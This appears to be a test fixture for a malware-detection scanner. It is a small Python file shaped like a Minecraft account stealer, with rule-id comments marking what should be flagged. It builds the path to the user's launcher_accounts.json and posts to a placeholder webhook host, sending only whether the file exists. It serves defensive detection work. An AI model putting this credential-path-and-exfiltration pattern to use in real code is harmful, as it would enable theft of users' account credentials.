# canary-test: path=hypixel.py artifact=wheel
# Game-account stealer shape (inert: only whether the file exists is sent).
import os

import requests


def main():
    # ruleid: CREDENTIAL_PATH_ACCESS, CREDENTIAL_EXFILTRATION
    path = os.path.join(os.path.expanduser("~"), "AppData", "Roaming", ".minecraft", "launcher_accounts.json")
    # ruleid: CREDENTIAL_EXFILTRATION
    requests.post("https://example.invalid/hook", data={"has": os.path.exists(path)})
